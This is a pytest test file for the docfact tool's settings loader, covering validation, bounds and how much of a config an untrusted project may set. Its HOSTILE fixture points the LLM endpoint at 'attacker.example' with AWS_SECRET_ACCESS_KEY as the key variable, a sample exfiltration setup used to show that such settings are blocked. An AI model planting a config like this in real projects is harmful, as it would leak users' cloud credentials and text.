"""Nested settings tables: [tool.docfact.llm], [tool.docfact.sonar], [tool.docfact.ssc]."""

import pytest

from docfact.config import (
    ConfigError,
    Settings,
    load_settings,
    trusted_keys,
    user_config_path,
)


def test_tables_take_kebab_and_camel_keys_and_keep_the_other_defaults():
    settings = Settings().with_overrides(
        {
            "sonar": {"fuzz-cases": 50, "generators": ["openai/a", "openai/b"]},
            "ssc": {"encoderLayer": 9, "k": 4},
        },
        "test",
    )
    assert settings.sonar.fuzz_cases == 50
    assert settings.sonar.generators == ("openai/a", "openai/b")
    assert settings.sonar.compressions == 3 and settings.sonar.samples == 9
    assert (settings.ssc.k, settings.ssc.encoder_layer, settings.ssc.epsilon) == (4, 9, 0.1)


def test_a_later_layer_merges_over_an_earlier_one():
    first = Settings().with_overrides({"ssc": {"k": 4}}, "pyproject")
    second = first.with_overrides({"ssc": {"idf": True}}, "editor settings")
    assert (second.ssc.k, second.ssc.idf) == (4, True)


@pytest.mark.parametrize(
    "raw, message",
    [
        ({"sonar": {"bogus": 1}}, "unknown sonar setting(s): bogus"),
        ({"sonar": {"enabled": "yes"}}, "sonar.enabled must be true or false"),
        ({"sonar": {"samples": 0}}, "sonar.samples must be an integer >= 1"),
        ({"sonar": {"run": "onType"}}, "'onType' is not one of onSave, manual"),
        ({"sonar": {"generators": [1]}}, "sonar.generators must be a list of strings"),
        ({"sonar": "on"}, "sonar must be a table of settings"),
        ({"ssc": {"k": 1}}, "ssc.k must be an integer >= 2 (SSC compares summaries in pairs)"),
        ({"ssc": {"epsilon": 1.5}}, "ssc.epsilon must be between 0 and 1"),
        ({"ssc": {"encoder_layer": "nine"}}, "ssc.encoder_layer must be an integer"),
        ({"llm": {"api_key_env": "sk-live-123"}}, "must be the name of an environment variable"),
        ({"llm": {"protocol": "fast"}}, "'fast' is not one of batched, paper"),
    ],
)
def test_bad_values_are_named_in_the_message(raw, message):
    with pytest.raises(ConfigError, match=message.replace("(", r"\(").replace(")", r"\)")):
        Settings().with_overrides(raw, "pyproject.toml")


def test_optional_fields_accept_null_and_retries_may_be_zero():
    settings = Settings().with_overrides(
        {"llm": {"max_retries": 0}, "ssc": {"encoder_layer": None}}, "t"
    )
    assert settings.llm.max_retries == 0 and settings.ssc.encoder_layer is None


def test_pyproject_tables(tmp_path):
    (tmp_path / "pyproject.toml").write_text(
        "[tool.docfact.sonar]\nenabled = true\ncompressions = 5\n\n[tool.docfact.ssc]\nk = 6\n"
    )
    settings, root, untrusted = load_settings(tmp_path)
    assert root == tmp_path and untrusted is None
    assert settings.sonar.enabled and settings.sonar.compressions == 5 and settings.ssc.k == 6


HOSTILE = """\
[tool.docfact]
select = ["DF5"]
cache-dir = ".dfcache"

[tool.docfact.llm]
model = "openai/exfiltrate"
api-base = "http://attacker.example"
api-key-env = "AWS_SECRET_ACCESS_KEY"
votes = 3

[tool.docfact.sonar]
python = "tools/py"
fluency-model = "weights.pkl"
generators = ["openai/other"]
samples = 3

[tool.docfact.ssc]
encoder = "enc"
k = 4
"""


def test_an_untrusted_project_chooses_rules_but_not_where_text_goes_or_what_runs(tmp_path):
    (tmp_path / "pyproject.toml").write_text(HOSTILE)
    settings, root, untrusted = load_settings(tmp_path)
    assert root == tmp_path
    assert settings.select == ("DF5",) and settings.sonar.samples == 3 and settings.ssc.k == 4
    assert settings.llm == Settings().llm and settings.cache_dir is None
    assert settings.sonar.python is None and settings.sonar.fluency_model is None
    assert settings.sonar.generators == () and settings.ssc.encoder is None
    assert untrusted is not None and untrusted.path == tmp_path / "pyproject.toml"
    assert set(untrusted.keys) == {
        "cache_dir",
        "llm.model",
        "llm.api_base",
        "llm.api_key_env",
        "llm.votes",
        "sonar.python",
        "sonar.fluency_model",
        "sonar.generators",
        "ssc.encoder",
    }
    message = untrusted.message("pass --trust-project")
    assert "llm.api_key_env" in message and "pass --trust-project" in message
    assert str(user_config_path()) in message


def test_a_trusted_project_chooses_everything(tmp_path):
    (tmp_path / "pyproject.toml").write_text(HOSTILE)
    settings, _, untrusted = load_settings(tmp_path, trusted=True)
    assert untrusted is None
    assert settings.llm.model == "openai/exfiltrate" and settings.cache_dir == ".dfcache"
    assert settings.sonar.python == "tools/py" and settings.ssc.encoder == "enc"


def test_the_users_config_file_is_trusted_and_ranks_below_the_project(tmp_path):
    user_config_path().parent.mkdir(parents=True, exist_ok=True)
    user_config_path().write_text(
        'ignore = ["DF102"]\ndocstring-style = "numpy"\n\n'
        '[llm]\nmodel = "openai/mine"\napi-key-env = "MY_KEY"\n'
    )
    project = tmp_path / "project"
    project.mkdir()
    (project / "pyproject.toml").write_text(HOSTILE.replace('select = ["DF5"]', "ignore = []"))
    settings, _, untrusted = load_settings(project)
    assert settings.llm.model == "openai/mine" and settings.llm.api_key_env == "MY_KEY"
    assert settings.ignore == ()  # the project's rule settings win over the user's
    assert settings.docstring_style == "numpy"  # what the project does not set stays the user's
    assert untrusted is not None and "llm.model" in untrusted.keys


def test_a_bad_user_config_file_is_named(tmp_path):
    user_config_path().parent.mkdir(parents=True, exist_ok=True)
    user_config_path().write_text("[llm]\nvotes = 1000\n")
    with pytest.raises(ConfigError, match=r"config.toml: llm.votes must be at most 9, not 1000"):
        load_settings(tmp_path)


def test_the_trusted_only_keys_are_declared_once():
    assert trusted_keys() == [
        "cache_dir",
        "llm.*",
        "sonar.generators",
        "sonar.fluency_model",
        "sonar.python",
        "ssc.encoder",
    ]


@pytest.mark.parametrize(
    "raw, message",
    [
        ({"jobs": 100000}, "jobs must be at most 64, not 100000"),
        ({"llm": {"votes": 40}}, "llm.votes must be at most 9, not 40"),
        ({"llm": {"max_concurrency": 1000}}, "llm.max_concurrency must be at most 32"),
        ({"llm": {"max_retries": 50}}, "llm.max_retries must be at most 10"),
        ({"sonar": {"samples": 1000}}, "sonar.samples must be at most 27"),
        ({"sonar": {"compressions": 100}}, "sonar.compressions must be at most 9"),
        ({"sonar": {"fuzz_cases": 10**9}}, "sonar.fuzz_cases must be at most 5000"),
        ({"ssc": {"k": 500}}, "ssc.k must be at most 50"),
        ({"ssc": {"judge_votes": 40}}, "ssc.judge_votes must be at most 9"),
        ({"max_file_bytes": 10**12}, "max_file_bytes must be at most 20000000"),
        ({"debounce_ms": 10**9}, "debounce_ms must be at most 60000"),
        ({"llm": {"timeout_s": 1e9}}, "llm.timeout_s must be at most 600"),
    ],
)
def test_integers_have_upper_bounds(raw, message):
    with pytest.raises(ConfigError, match=message):
        Settings().with_overrides(raw, "pyproject.toml")
